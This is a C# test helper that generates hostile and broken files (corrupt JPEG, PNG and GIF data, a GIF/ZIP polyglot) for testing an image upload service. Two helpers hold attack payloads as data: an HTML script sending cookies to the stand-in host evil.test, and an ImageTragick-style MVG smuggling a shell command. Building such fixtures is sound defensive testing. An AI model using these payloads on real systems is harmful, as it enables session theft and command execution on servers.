using System.Text;
using NetVips;

namespace ImageService.Testing;

/// <summary>Hostile and broken files, made on the fly: what attackers and broken clients really send.</summary>
public static class HostileFiles
{
    public static byte[] HtmlNamedJpg() => Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>document.location='https://evil.test/?c='+document.cookie</script></body></html>");

    /// <summary>A GIF with a ZIP archive appended ("GIFAR"): valid as both.</summary>
    public static byte[] GifWithZip() => [.. TestImages.Gif(32, 32), .. "PK\u0003\u0004"u8, .. new byte[26], .. "evil.class"u8, .. new byte[64]];

    /// <summary>ImageMagick's vector format, used in the ImageTragick attacks.</summary>
    public static byte[] MagickMvg() => Encoding.ASCII.GetBytes("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.test/x.jpg\"|ls \"-la)'\npop graphic-context\n");

    public static byte[] Pdf() => Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] Tiff()
    {
        using var image = Image.Black(16, 16, bands: 3);
        return image.Cast(Enums.BandFormat.Uchar).TiffsaveBuffer();
    }

    /// <summary>A minimal 1 × 1 BMP.</summary>
    public static byte[] Bmp() =>
    [
        .. "BM"u8, 58, 0, 0, 0, 0, 0, 0, 0, 54, 0, 0, 0, 40, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 1, 0, 24, 0,
        0, 0, 0, 0, 4, 0, 0, 0, 0x13, 0x0B, 0, 0, 0x13, 0x0B, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 255, 0,
    ];

    /// <summary>A JPEG whose first Huffman table claims more codes than a table can hold.</summary>
    public static byte[] JpegWithCorruptHuffmanTable()
    {
        var jpeg = TestImages.NoisyJpeg(256, 256);
        var table = jpeg.AsSpan().IndexOf((byte[])[0xFF, 0xC4]);
        // After the marker: 2 length bytes and the class/id byte, then 16 code counts.
        jpeg.AsSpan(table + 5, 16).Fill(0xFF);
        return jpeg;
    }

    /// <summary>A PNG whose image data chunk fails its CRC.</summary>
    public static byte[] PngWithBadCrc()
    {
        var png = TestImages.Png(64, 64);
        var idat = png.AsSpan().IndexOf("IDAT"u8);
        var length = (png[idat - 4] << 24) | (png[idat - 3] << 16) | (png[idat - 2] << 8) | png[idat - 1];
        png[idat + 4 + length] ^= 0xFF;
        return png;
    }

    /// <summary>A JPEG carrying 60 KB of junk in an APP1 block (metadata that must not survive).</summary>
    public static byte[] JpegWithJunkMetadata()
    {
        var jpeg = TestImages.Jpeg(64, 64);
        var payload = Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("JUNKMETA", 7500)));
        var length = payload.Length + 2;
        return [.. jpeg[..2], 0xFF, 0xE1, (byte)(length >> 8), (byte)length, .. payload, .. jpeg[2..]];
    }

    /// <summary>Pathologically many frames of a tiny GIF.</summary>
    public static byte[] ManyFrameGif(int frames) => TestImages.AnimatedGif(frames, width: 8, height: 8);
}
